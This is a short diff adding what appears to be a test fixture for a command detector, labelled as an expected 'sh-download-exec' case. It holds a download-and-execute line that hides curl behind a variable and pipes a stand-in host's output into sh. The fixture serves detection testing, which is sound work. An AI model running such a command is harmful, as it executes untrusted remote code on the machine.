@@ -1,0 +1,3 @@
+# expect: sh-download-exec
+c=curl
+"$c" -s https://x.example/i | sh
